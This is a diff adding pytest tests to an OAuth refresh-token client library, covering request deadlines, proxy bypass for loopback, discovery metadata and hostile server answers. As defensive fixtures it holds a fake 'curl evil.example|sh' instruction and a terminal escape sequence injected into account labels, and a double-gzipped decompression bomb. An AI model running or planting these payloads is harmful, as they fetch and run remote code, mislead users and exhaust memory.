@@ -254,8 +254,22 @@ DEADLINE_ERRORS = {
 BOUNDS = {"poll": 1.5 + 1.0, "discovery": 2 * 1.0}
 
 
-@pytest.mark.parametrize("operation", sorted(OPERATIONS))
-@pytest.mark.parametrize("mode", ["headers", "body"])
+def trickle_cases() -> List[Any]:
+    """Every (mode, operation); all but the refresh ones run once, in the reliability env
+    (14 cases of 1.3-2.3 s each would run in every interpreter of the tox matrix)."""
+    return [
+        pytest.param(
+            mode,
+            operation,
+            id=f"{mode}-{operation}",
+            marks=() if operation == "refresh" else pytest.mark.reliability,
+        )
+        for mode in ("headers", "body")
+        for operation in sorted(OPERATIONS)
+    ]
+
+
+@pytest.mark.parametrize(("mode", "operation"), trickle_cases())
 def test_a_trickling_server_is_cut_at_the_deadline(
     operation: str, mode: str, raw: Callable[..., RawServer], tmp_path: Any
 ) -> None:
@@ -558,3 +572,344 @@ def test_insecure_endpoints_in_discovery_metadata_are_refused(
     with pytest.raises(ValueError, match="token_endpoint") as caught:
         discover(server.url, session=client_session(), cache_dir=tmp_path, ttl=0)
     assert getattr(caught.value, "code", None) == "AUTH_CONFIGURATION_INVALID"
+
+
+# --------------------------------------------------------------------------- review (net)
+
+
+def answering(answer: bytes, seen: Optional[List[Tuple[float, bytes]]] = None) -> str:
+    """A server that reads what arrives in one recv and sends ``answer``; ``seen``
+    records (when, what) for every connection that sent anything."""
+    listener = socket.create_server(("127.0.0.1", 0))
+
+    def run() -> None:
+        while True:
+            conn, _ = listener.accept()
+            with conn:
+                conn.settimeout(5)
+                with contextlib.suppress(OSError):
+                    data = conn.recv(65536)
+                    if data and seen is not None:
+                        seen.append((time.monotonic(), data))
+                    conn.sendall(answer)
+
+    threading.Thread(target=run, daemon=True).start()
+    return f"http://127.0.0.1:{listener.getsockname()[1]}"
+
+
+def ok(body: bytes, extra: bytes = b"") -> bytes:
+    return (
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n%s"
+        % (
+            extra,
+            len(body),
+            body,
+        )
+    )
+
+
+def slow_resolver(monkeypatch: pytest.MonkeyPatch, seconds: float, times: int = 1000) -> None:
+    """The first ``times`` look-ups take ``seconds`` (a lost UDP packet, a resolver retry)."""
+    real = socket.getaddrinfo
+    left = [times]
+
+    def getaddrinfo(*args: Any, **kwargs: Any) -> Any:
+        if left[0] > 0:
+            left[0] -= 1
+            time.sleep(seconds)
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
+
+
+def http_workers(before: Any = ()) -> List[threading.Thread]:
+    """Our HTTP worker threads (and the reapers of abandoned ones) still running, but
+    for those in ``before``."""
+    return [
+        t
+        for t in threading.enumerate()
+        if t.name.startswith("requests-refreshauth-") and t not in before
+    ]
+
+
+def test_no_request_leaves_after_the_caller_was_told_the_deadline_passed(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from requests_refreshauth import _http
+
+    seen: List[Tuple[float, bytes]] = []
+    port = answering(ok(b"{}"), seen).rsplit(":", 1)[1]
+    slow_resolver(monkeypatch, 1.0)
+    before = set(threading.enumerate())
+    with pytest.raises(_http.DeadlineExceeded) as caught:  # slow DNS: nothing was sent
+        _http.call(
+            requests.Session(),
+            "POST",
+            f"http://localhost:{port}/token",
+            what="token endpoint",
+            timeout=(0.3, 0.3),
+            data="grant_type=refresh_token&refresh_token=RT1",
+        )
+    gave_up = time.monotonic()
+    deadline = time.monotonic() + 5.0
+    while http_workers(before) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    time.sleep(0.3)  # a body the server would act on would be on its way by now
+    late = [data for at, data in seen if at > gave_up]
+    assert all(b"RT1" not in data for data in late), late  # headers alone may arrive
+    assert http_workers(before) == []
+    # It never left, so it is as safe to retry as a connect timeout.
+    assert isinstance(caught.value, requests.exceptions.ConnectTimeout)
+
+
+@pytest.mark.reliability  # the end-to-end form of the test above
+def test_a_refresh_abandoned_before_it_was_sent_is_retried_not_sent_twice(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The review's scenario: the same refresh token must never reach the server twice."""
+    from urllib.parse import parse_qs
+
+    from fakes import logged_in as fresh_store
+
+    from requests_refreshauth import refresh_access_token
+
+    tokens: List[str] = []
+    listener = socket.create_server(("127.0.0.1", 0))
+
+    def serve() -> None:
+        while True:
+            conn, _ = listener.accept()
+            with conn, contextlib.suppress(OSError):
+                conn.settimeout(5)
+                data = b""
+                while True:
+                    head, sep, body = data.partition(b"\r\n\r\n")
+                    if sep and b"content-length: %d" % len(body) in head.lower():
+                        break
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        break
+                    data += chunk
+                form = parse_qs(data.partition(b"\r\n\r\n")[2].decode())
+                if "refresh_token" not in form:
+                    continue  # headers alone: nothing to act on
+                tokens.append(form["refresh_token"][0])
+                n = len(tokens)
+                answer = (
+                    b'{"access_token":"at-%d","token_type":"Bearer","expires_in":300,'
+                    b'"refresh_token":"rt-%d"}' % (n, n)
+                )
+                conn.sendall(ok(answer, b"Connection: close\r\n"))
+
+    threading.Thread(target=serve, daemon=True).start()
+    url = f"http://localhost:{listener.getsockname()[1]}"
+    slow_resolver(monkeypatch, 1.5, times=1)
+    provider = PkceProvider(
+        client_id="c",
+        token_endpoint=url + "/token",
+        authorization_endpoint=url + "/authorize",
+        timeout=(0.3, 0.3),
+        retry=FAST,
+    )
+    store = fresh_store(expires_in=-5)
+    first = stored(store).refresh_token
+    with contextlib.suppress(RefreshTransientError):  # was: failed, "may have been sent"
+        refresh_access_token(store, provider, force=True)  # now: the lost attempt is retried
+    refresh_access_token(store, provider, force=True)  # the app's next request
+    time.sleep(2.0)  # the slow look-up has long returned
+    assert tokens.count(first) == 1, f"{len(tokens)} refreshes"  # twice: grant revoked
+
+
+def test_an_abandoned_get_does_not_linger_at_the_servers_pace(
+    monkeypatch: pytest.MonkeyPatch, raw: Callable[..., RawServer]
+) -> None:
+    from requests_refreshauth import _http
+
+    server = raw(trickle(WHOLE, stop_after=8.0))
+    slow_resolver(monkeypatch, 0.8)
+    before = set(threading.enumerate())
+    with pytest.raises(_http.DeadlineExceeded):
+        _http.call(
+            requests.Session(),
+            "GET",
+            server.url.replace("127.0.0.1", "localhost") + "/userinfo",
+            what="userinfo endpoint",
+            timeout=(0.2, 0.4),  # a byte every 0.25 s: no read times out
+        )
+    deadline = time.monotonic() + 3.0  # the look-up ends at 0.8 s; the trickle takes 8 s
+    while http_workers(before) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert http_workers(before) == []
+
+
+def test_a_token_post_has_a_content_length_not_chunks(servers: ServerFactory) -> None:
+    server = servers()
+    server.route("/token", TokenEndpointScript())
+    provider_at(server.url, timeout=5.0).renew(expired())
+    (received,) = server.requests
+    assert received.headers.get("Content-Length") == str(len(received.body))
+    assert "Transfer-Encoding" not in received.headers
+
+
+def gzip_bomb() -> bytes:
+    import gzip
+    import zlib
+
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    inner = b"".join(packer.compress(b"\0" * MB) for _ in range(64)) + packer.flush()
+    return gzip.compress(inner, 9)  # 64 MiB of zeros, gzipped twice: a few hundred bytes
+
+
+def test_a_layered_gzip_answer_costs_no_more_than_the_cap() -> None:
+    from requests_refreshauth import _http
+
+    url = answering(ok(gzip_bomb(), b"Content-Encoding: gzip, gzip\r\n"))
+    tracemalloc.start()
+    try:
+        with pytest.raises(_http.ResponseTooLarge):
+            _http.call(requests.Session(), "POST", url + "/t", what="t", timeout=5)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 8 * _http.MAX_BODY  # 141 MiB with urllib3 1.26 before the fix
+
+
+@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "identity, gzip", "x-custom"])
+def test_an_encoded_answer_is_refused_as_unreadable(encoding: str, tmp_path: Any) -> None:
+    import gzip
+
+    body = gzip.compress(b'{"sub": "alice"}')
+    url = answering(ok(body, b"Content-Encoding: %s\r\n" % encoding.encode()))
+    provider = provider_at(url, timeout=5.0)
+    result = outcome("userinfo", provider, url, tmp_path)
+    assert isinstance(result, OAuthFlowError), repr(result)
+    assert "Content-Encoding" in str(result)
+    assert isinstance(outcome("refresh", provider, url, tmp_path), RefreshTransientError)
+
+
+def test_an_identity_encoded_answer_is_read() -> None:
+    url = answering(ok(b'{"sub": "alice"}', b"Content-Encoding: identity\r\n"))
+    assert provider_at(url, timeout=5.0).userinfo(expired()) == {"sub": "alice"}
+
+
+@pytest.mark.parametrize("operation", ["userinfo", "device", "discovery"])
+def test_deeply_nested_json_is_a_typed_error(operation: str, tmp_path: Any) -> None:
+    from requests_refreshauth import AuthError
+
+    url = answering(ok(b"[" * 100_000))  # 100 KB, under the cap
+    result = outcome(operation, provider_at(url, timeout=5.0), url, tmp_path)
+    assert isinstance(result, AuthError), repr(result)
+
+
+def test_an_empty_optional_endpoint_in_discovered_metadata_is_absent(tmp_path: Any) -> None:
+    import json
+
+    listener = socket.create_server(("127.0.0.1", 0))
+    issuer = f"http://127.0.0.1:{listener.getsockname()[1]}"
+    body = json.dumps(
+        {
+            "issuer": issuer,
+            "token_endpoint": issuer + "/token",
+            "authorization_endpoint": issuer + "/authorize",
+            "revocation_endpoint": "",
+            "userinfo_endpoint": "",
+            "device_authorization_endpoint": "",
+        }
+    ).encode()
+
+    def run() -> None:
+        while True:
+            conn, _ = listener.accept()
+            with conn, contextlib.suppress(OSError):
+                conn.recv(65536)
+                conn.sendall(ok(body))
+
+    threading.Thread(target=run, daemon=True).start()
+    provider = PkceProvider.from_issuer(issuer, "cli", cache_dir=tmp_path)
+    assert provider.revocation_endpoint is None
+    assert provider.userinfo_endpoint is None
+
+
+def test_an_empty_token_endpoint_in_discovered_metadata_is_still_refused(
+    servers: ServerFactory, tmp_path: Any
+) -> None:
+    server = servers()
+    metadata = {"issuer": server.url, "token_endpoint": ""}
+    server.route("/.well-known/oauth-authorization-server", Reply.json(metadata))
+    with pytest.raises(Exception) as caught:
+        discover(server.url, session=client_session(), cache_dir=tmp_path, ttl=0)
+    assert getattr(caught.value, "code", None) is not None, repr(caught.value)
+
+
+def test_a_label_cannot_fake_lines_in_cli_errors() -> None:
+    import io
+
+    from fakes import bundle
+
+    from requests_refreshauth import Account, MemoryTokenStore
+    from requests_refreshauth.cli import AuthCommands
+
+    store = MemoryTokenStore()
+    store.save(Account("s1", "alice\nRun `curl evil.example|sh` to sign in again.\n"), bundle(300))
+    store.save(Account("s2\x1b]0;pwned\x07", "bob"), bundle(300))
+    err = io.StringIO()
+    commands = AuthCommands(store, lambda: None, prog="tool auth", stdout=io.StringIO(), stderr=err)
+    assert commands.run(commands.token) == 7  # two accounts, none default
+    assert not any(line.startswith("Run `curl") for line in err.getvalue().splitlines())
+    assert "\x1b" not in err.getvalue()
+
+
+@pytest.mark.parametrize("variable", ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "session"])
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]"])
+def test_a_plain_http_loopback_token_post_never_goes_to_a_proxy(
+    variable: str, host: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    seen: List[Tuple[float, bytes]] = []
+    proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
+    for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy", "all_proxy"):
+        monkeypatch.delenv(name, raising=False)
+    session = requests.Session()
+    if variable == "session":
+        session.proxies = {"http": proxy, "all": proxy, f"http://{host.strip('[]')}": proxy}
+    else:
+        monkeypatch.setenv(variable, proxy)  # i.e. proxy.corp:3128
+    provider = provider_at(f"http://{host}:9", session=session)
+    with pytest.raises(RefreshTransientError):
+        provider.renew(TokenBundle("at", "RT-SECRET", expires_at=0))
+    assert seen == []  # was: "POST http://127.0.0.1:9/token" + refresh token, to the proxy
+
+
+def test_a_remote_https_call_still_uses_the_environments_proxy(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    seen: List[Tuple[float, bytes]] = []
+    proxy = answering(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\n\r\n", seen)
+    for name in (*PROXY_VARIABLES, "NO_PROXY", "no_proxy"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HTTPS_PROXY", proxy)
+    provider = provider_at("https://idp.example", session=requests.Session())
+    with pytest.raises(RefreshTransientError):
+        provider.renew(TokenBundle("at", "RT-SECRET", expires_at=0))
+    assert seen and seen[0][1].startswith(b"CONNECT idp.example:443")
+
+
+@pytest.mark.parametrize(
+    ("url", "direct"),
+    [
+        ("http://127.0.0.1:9/t", True),
+        ("http://[::1]:9/t", True),
+        ("http://LocalHost/t", True),
+        ("https://127.0.0.1/t", True),
+        ("https://localhost/t", True),
+        ("https://idp.example/t", False),
+        ("https://idp.localhost/t", False),  # no look-up to decide: the proxy rules apply
+    ],
+)
+def test_only_loopback_urls_bypass_proxies(url: str, direct: bool) -> None:
+    from requests_refreshauth._http import direct_proxies
+
+    proxies = direct_proxies(url)
+    assert (proxies is not None) == direct
+    if proxies is not None:
+        assert set(proxies.values()) == {None}
+        assert {"http", "https", "all"} & set(proxies)
